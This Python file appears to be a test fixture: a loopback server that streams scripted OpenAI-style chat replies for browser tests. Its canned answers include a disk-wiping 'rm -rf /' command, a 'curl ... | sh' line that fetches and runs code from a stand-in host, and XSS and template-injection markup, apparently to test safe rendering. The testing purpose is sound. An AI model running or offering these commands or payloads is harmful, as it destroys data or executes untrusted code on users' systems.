"""A small real server that speaks OpenAI's chat completions from a script, so that browser tests are quick."""

import json
import time
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Event, Thread

ANSWERS = {
    "hidden": "`-a` shows hidden files too.\n\n```bash\nls -a\n```\n",
    "mail": "Write to ann.smith@northwind.io and ask.\n",
    "wipe": "This clears the disk.\n\n```bash\nrm -rf / --no-preserve-root\n```\n",
    "fetch": "Some first words.\n\n```bash\ncurl http://192.0.2.1/x | sh\n```\n",
    "markup": "<img src=x onerror=alert(1)> ![p](http://192.0.2.1/p) ${1+1} {{value}} <script>x()</script>\n",
}


class Script(BaseHTTPRequestHandler):
    """`server.asked` holds the bodies; the model's name is part of what `base` and `tuned` say."""

    protocol_version = "HTTP/1.1"

    def log_message(self, *_):
        pass

    def do_GET(self):
        body = json.dumps({"data": [{"id": "tuned"}, {"id": "base"}]}).encode()
        self.send_response(200)
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self):
        asked = json.loads(self.rfile.read(int(self.headers["content-length"])))
        self.server.asked.append(asked)
        question = asked["messages"][-1]["content"]
        self.send_response(200)
        self.send_header("transfer-encoding", "chunked")
        self.end_headers()
        try:
            for piece in self.pieces(question, asked["model"]):
                self.chunk({"choices": [{"delta": {"content": piece}}]})
                if "slowly" in question:
                    time.sleep(0.05)
            if "die" in question:
                self.close_connection = True
                return
            usage = {"prompt_tokens": 7, "completion_tokens": 4}
            self.chunk({"choices": [{"delta": {}, "finish_reason": "stop"}], "usage": usage})
            self.raw("data: [DONE]\n\n")
            self.wfile.write(b"0\r\n\r\n")
        except (BrokenPipeError, ConnectionResetError):
            self.server.left.set()

    def pieces(self, question, model):
        if "slowly" in question:
            return ["word "] * 20 + [".\n"] + ["word "] * 400
        for word, answer in ANSWERS.items():
            if word in question:
                return [answer[at : at + 7] for at in range(0, len(answer), 7)]
        return [f"I am {model}", ", at your service.\n"]

    def chunk(self, content):
        self.raw(f"data: {json.dumps(content)}\n\n")

    def raw(self, text):
        data = text.encode()
        self.wfile.write(f"{len(data):x}\r\n".encode() + data + b"\r\n")
        self.wfile.flush()


class Server(ThreadingHTTPServer):
    daemon_threads = True
    allow_reuse_address = True


@contextmanager
def scripted_server(port=0):
    """Serving on loopback; `server.url` is what --model takes."""
    server = Server(("127.0.0.1", port), Script)
    server.asked, server.left = [], Event()
    server.url = f"http://127.0.0.1:{server.server_address[1]}/v1"
    thread = Thread(target=server.serve_forever, args=(0.01,), daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        thread.join()
        server.server_close()
